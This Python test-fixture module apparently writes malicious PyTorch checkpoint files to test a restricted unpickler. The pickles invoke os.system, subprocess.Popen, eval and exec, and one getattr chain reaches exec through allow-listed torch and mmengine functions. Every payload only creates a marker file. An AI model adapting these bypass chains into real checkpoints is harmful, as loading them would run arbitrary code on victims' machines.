"""A corpus of crafted checkpoints, each of which would write a marker file if its code ran.

Every file is a real torch.save zip archive. Most are pickled with Python's own pickler
from objects whose ``__reduce__`` names the callable and its arguments; the ones
that name a global under another module than its own (``os.system`` is ``posix.system``
to the pickler) are assembled opcode by opcode.
"""
import copyreg
import io
import os
import struct
import subprocess
import zipfile
from pathlib import Path
from typing import Any, Callable, Dict

import numpy as np
import torch
from mmengine.logging import HistoryBuffer
from torch._tensor import _rebuild_from_type_v2


class Call:
    """Pickles as ``fn(*args)``: the unpickler makes that call."""

    def __init__(self, fn: Callable, *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def state_pickled(cls: type, state: Any) -> Any:
    """An instance of ``cls`` that pickles as ``cls.__new__(cls)`` with ``state`` set on
    it, the way mmengine's objects pickle, whatever ``cls.__getstate__`` would say."""
    obj = cls.__new__(cls)
    obj.__reduce_ex__ = lambda protocol: (copyreg.__newobj__, (cls,), state)
    return obj


def exec_chain(code: str) -> Call:
    """``exec(code)`` reached from an allow-listed ``getattr`` and torch's allow-listed
    ``_rebuild_from_type_v2``, which calls the function it is handed: HistoryBuffer's
    ``__init__.__globals__['__builtins__']['exec']``. Each call's result keeps its type
    check happy by naming its own class, read with getattr."""
    module_globals = Call(getattr, Call(getattr, HistoryBuffer, '__init__'), '__globals__')
    globals_get = Call(getattr, module_globals, 'get')
    builtins_dict = Call(_rebuild_from_type_v2, globals_get,
                         Call(getattr, module_globals, '__class__'), ('__builtins__',), {})
    function_type = Call(getattr, globals_get, '__class__')
    exec_fn = Call(_rebuild_from_type_v2, Call(getattr, builtins_dict, 'get'),
                   function_type, ('exec',), {})
    return Call(_rebuild_from_type_v2, exec_fn, function_type, (code,), {})


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b'X' + struct.pack('<I', len(data)) + data  # BINUNICODE


def _raw_call(module: str, name: str, argument: bytes) -> bytes:
    """Protocol-2 pickle of ``module.name(argument)``: GLOBAL, one argument, REDUCE."""
    return (b'\x80\x02c' + f'{module}\n{name}\n'.encode() + argument + b'\x85R.')


def _save_raw(path: Path, data_pkl: bytes) -> None:
    """A torch.save archive whose pickle is ``data_pkl``."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, 'w') as target:
        for info in source.infolist():
            target.writestr(info.filename, data_pkl if info.filename.endswith('/data.pkl')
                            else source.read(info))


def _buffer_state(**changes: Any) -> dict:
    state = dict(max_length=10, _log_history=np.zeros(1), _count_history=np.ones(1, int),
                 statistics_methods={'mean': HistoryBuffer.mean})
    state.update(changes)
    return state


def write_corpus(directory: Path) -> Dict[str, Path]:
    """Write every crafted checkpoint into ``directory``.

    Returns:
        name -> path; the payload of ``<name>.pth`` would create ``<name>.ran`` beside it.
    """
    directory.mkdir(parents=True, exist_ok=True)
    paths = {}

    def marker(name: str) -> str:
        return str(directory / f'{name}.ran')

    def touch_code(name: str) -> str:
        return f'open({marker(name)!r}, "w").close()'

    pickled = {
        'getattr_chain_exec': lambda n: exec_chain(touch_code(n)),
        'getattr_globals': lambda n: Call(getattr, Call(getattr, HistoryBuffer, '__init__'),
                                          '__globals__'),
        'getattr_builtins': lambda n: Call(getattr, Call(getattr, HistoryBuffer, '__init__'),
                                           '__builtins__'),
        'getattr_dunder_class': lambda n: Call(getattr, HistoryBuffer, '__class__'),
        'rebuild_with_statistics_method': lambda n: Call(
            _rebuild_from_type_v2, Call(getattr, HistoryBuffer, 'mean'), torch.Tensor,
            (touch_code(n),), {}),
        'rebuild_with_eval': lambda n: Call(
            _rebuild_from_type_v2, eval, torch.Tensor, (touch_code(n),), {}),
        'rebuild_with_history_buffer': lambda n: Call(
            _rebuild_from_type_v2, HistoryBuffer, torch.Tensor, ([touch_code(n)], [1]), {}),
        'reduce_os_system': lambda n: {
            'meta': {'iter': 2}, 'state_dict': {'weight': torch.ones(2)},
            'message_hub': Call(os.system, f'touch {marker(n)}')},
        'reduce_subprocess_popen': lambda n: Call(subprocess.Popen, ['touch', marker(n)]),
        'reduce_builtins_exec': lambda n: Call(exec, touch_code(n)),
        'numpy_object_array': lambda n: {'meta': {'x': np.array([1, 'a'], dtype=object)}},
        'numpy_ndarray_call': lambda n: {'meta': {'x': Call(np.ndarray, (2,), 'O')}},
        'history_buffer_call': lambda n: Call(HistoryBuffer, [touch_code(n)], [1]),
        'history_buffer_foreign_statistic': lambda n: state_pickled(
            HistoryBuffer, _buffer_state(statistics_methods={'mean': HistoryBuffer.min})),
        'history_buffer_extra_attribute': lambda n: state_pickled(
            HistoryBuffer, _buffer_state(_statistics_methods={})),
        'history_buffer_object_history': lambda n: state_pickled(
            HistoryBuffer, _buffer_state(_log_history=np.array([None], object))),
    }
    for name, payload in pickled.items():
        paths[name] = directory / f'{name}.pth'
        torch.save(payload(name), paths[name])

    shell = lambda n: _unicode(f'touch {marker(n)}')  # noqa: E731
    raw = {
        'global_os_system': ('os', 'system', shell),
        'global_posix_system': ('posix', 'system', shell),
        'global_builtins_eval': ('builtins', 'eval', lambda n: _unicode(touch_code(n))),
        'global_builtins_exec': ('__builtin__', 'exec', lambda n: _unicode(touch_code(n))),
        'global_subprocess_popen': ('subprocess', 'Popen', lambda n: (
            b']' + b'(' + _unicode('touch') + _unicode(marker(n)) + b'e')),
    }
    for name, (module, function, argument) in raw.items():
        paths[name] = directory / f'{name}.pth'
        _save_raw(paths[name], _raw_call(module, function, argument(name)))
    return paths


def marker_of(path: Path) -> Path:
    """The file the payload of ``path`` would create."""
    return path.with_suffix('.ran')


